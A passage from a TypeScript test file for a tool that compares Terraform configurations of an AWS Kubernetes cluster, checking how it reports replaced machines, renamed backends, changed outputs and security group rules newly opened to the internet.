  const access = findings.find(({ kind }) => kind === "access");
  expect(access?.details).toMatchObject({
    "aws_vpc_security_group_ingress_rule.control-plane-etcd-from-10-0-0-0-24": "TCP 2379-2380 from 10.0.0.0/24",
  });
});

test("outputs are lists of the entries that change, with the values of those that stay", () => {
  const output = (nodes: unknown, more: object = {}) => ({ output: { nodes: { value: nodes }, ...more } }) as Document;
  const [, list = ""] = renderPage(
    compare(output({ a: { ip: "1" }, b: 2 }), output({ a: { ip: "9" }, c: 3 }, { more: { value: "x" } })),
  ).split("<summary>Outputs</summary>\n\n");
  expect(list.split("\n\n")[0]).toBe(
    " - `more`: added, `x`\n - `nodes`: with `c`, without `b`, `a.ip` from `1` to `9`",
  );
});

test.each([
  [
    "another size of a disk that is removed",
    { rootVolume: { sizeGiB: 20, encrypted: true } },
    {},
    "no longer set: the existing value stays",
  ],
  [
    "a smaller disk",
    { rootVolume: { sizeGiB: 20 } },
    { rootVolume: { sizeGiB: 10 } },
    "EBS never makes a volume smaller",
  ],
])("the page has the effect that AWS has for %s", (_case, before, after, note) => {
  const changes = compare(cluster({ workers: before }), cluster({ workers: after }));
  expect(renderPage(changes)).toContain(note);
  expect(findingsOf(changes).map(({ kind }) => kind)).toEqual("rootVolume" in after ? ["refused"] : []);
});

test("an empty block, and a description of an output, is a change", () => {
  for (const change of [
    (r: Record<string, Record<string, Block>>) => Object.assign(r.aws_vpc?.vpc as object, { timeouts: {} }),
    (_r: unknown, d: Block) => Object.assign(d.output.nodes, { description: "x" }),
    (_r: unknown, d: Block) => Object.assign(d, { moved: [{ from: "aws_lb.a", to: "aws_lb.b" }] }),
  ]) {
    expect(renderPage(compare(...changed(change)))).not.toContain("Nothing changes");
  }
});

describe("another name of the cluster", () => {
  const s3 = (more: object) =>
    ({ type: "s3", bucket: "our-terraform-states", key: "prod/k8s.tfstate", ...more }) as const;
  const kindsOf = (before: object, after: object) =>
    findingsOf(compare(cluster({ name: "prod", backend: before }), cluster({ name: "k8s", backend: after }))).map(
      ({ kind }) => kind,
    );

  test.each([
    ["the same object in S3", s3({}), s3({})],
    ["another way to lock the state", s3({}), s3({ useLockfile: false })],
    ["another region of the same bucket", s3({}), s3({ region: "us-east-1" })],
    ["the same path", { path: "prod/k8s.tfstate" }, { path: "prod/k8s.tfstate" }],
    ["the same path in other words", { path: "prod/k8s.tfstate" }, { path: "prod//k8s.tfstate" }],
  ])("is no second cluster with %s: its machines are replaced", (_case, before, after) => {
    const kinds = kindsOf(before, after);
    expect(kinds).toContain("replace-machine");
    expect(kinds).not.toContain("name");
  });

  test.each([
    ["another bucket", s3({}), s3({ bucket: "their-terraform-states" })],
    ["another key", s3({}), s3({ key: "k8s/k8s.tfstate" })],
    ["another path", { path: "prod/k8s.tfstate" }, { path: "k8s/k8s.tfstate" }],
    ["another type of backend", { path: "prod/k8s.tfstate" }, s3({})],
  ])("is a second cluster with %s", (_case, before, after) => {
    expect(kindsOf(before, after)).toEqual(["name"]);
  });

  test.each<[string, (name: string) => object]>([
    ["a backend that this page does not know", (name) => ({ gcs: { bucket: name } })],
    ["one file by two paths", (name) => ({ local: { path: `../${name}/../k8s.tfstate` } })],
    ["a path that is no text", (name) => ({ local: { path: [name] } })],
  ])("is no second cluster with %s", (_case, backend) => {
    const other = (name: string) => {
      const document = JSON.parse(JSON.stringify(cluster({ name })));
      document.terraform.backend = backend(name);
      return document as Document;
    };
    expect(findingsOf(compare(other("prod"), other("k8s"))).map(({ kind }) => kind)).toContain("replace-machine");
  });
});

describe("a literal that changes", () => {
  const kindsOf = (before: Document, after: Document) => findingsOf(compare(before, after)).map(({ kind }) => kind);
  const REPLACED = ["replace-machine", "replace-ssh-key", "replace-certificate"];

  test("changes what refers to it: a cluster with another name in the same state replaces its machines", () => {
    const backend = { path: "states/prod/k8s.tfstate" };
    const kinds = kindsOf(cluster({ name: "prod", backend }), cluster({ name: "k8s", backend }));
    expect(kinds).toEqual(expect.arrayContaining(REPLACED));
  });

  test("changes what refers to it: another name of the key pair replaces each machine", () => {
    const pair = ({ aws_key_pair = {} }: Record<string, Record<string, Block>>) =>
      Object.values(aws_key_pair)[0] as Block;
    const [before, after] = changed((r) => Object.assign(pair(r), { key_name: "other" }));
    expect(kindsOf(before, after)).toEqual(REPLACED);
  });

  test("changes what refers to it, also if it changes in place or inside a block", () => {
    const document = (port: number, size: number): Document => ({
      resource: {
        aws_lb_listener: { a: { port } },
        aws_lb_target_group_attachment: { b: { port: "$" + "{aws_lb_listener.a.port}" } },
        aws_instance: { c: { root_block_device: [{ volume_size: size }] } },
        null_resource: { d: { triggers: { size: "$" + "{aws_instance.c.root_block_device[0].volume_size}" } } },
      },
    });
    const replaced = (after: Document) =>
      compare(document(1, 1), after).resources.flatMap(({ address, action }) =>
        action === "replace" ? [address] : [],
      );
    expect(replaced(document(2, 1))).toEqual(["aws_lb_target_group_attachment.b"]);
    expect(replaced(document(1, 2))).toEqual(["null_resource.d"]);
  });

  test("changes nothing if it is ignored for existing resources", () => {
    const document = (ami: string): Document => ({
      resource: {
        aws_instance: { a: { ami, tags: { ami }, lifecycle: { ignore_changes: ["ami"] } } },
        null_resource: { b: { triggers: { ami: "$" + "{aws_instance.a.ami}" } } },
      },
    });
    const { resources } = compare(document("ami-1"), document("ami-2"));
    expect(resources.map(({ address, action }) => [address, action])).toEqual([["aws_instance.a", "update"]]);
  });
});

test("a change has only its own findings", () => {
  const kinds = (settings: ClusterSettingsInput) =>
    findingsOf(compare(cluster(), cluster(settings))).map(({ kind }) => kind);
  expect(kinds({})).toEqual([]);
  expect(kinds({ workers: { count: 4 } })).toEqual([]);
  expect(kinds({ workers: { count: 2, instanceType: "t3.small" } })).toEqual([
    "destroy-machine",
    "restart-machine",
    "replace-certificate",
  ]);
});

test("open-world is reported for a rule that becomes open, not for one that was open before", () => {
  const rule = (source: string, more: object = {}): Document => ({
    resource: {
      aws_vpc_security_group_ingress_rule: { ssh: { cidr_ipv4: source, from_port: 22, to_port: 22, ...more } },
    },
  });
  const kinds = (before: Document, after: Document) => findingsOf(compare(before, after)).map(({ kind }) => kind);
  expect(kinds({}, rule("0.0.0.0/0"))).toEqual(["open-world"]);
  expect(kinds(rule("10.0.0.0/8"), rule("0.0.0.0/0"))).toEqual(["open-world"]);
  expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { to_port: 23 }))).toEqual(["open-world"]);
  expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { description: "ssh" }))).toEqual([]);
  expect(kinds(rule("0.0.0.0/0"), rule("10.0.0.0/8"))).toEqual(["access"]);
  expect(kinds(rule("0.0.0.0/0"), {})).toEqual(["access"]);
});
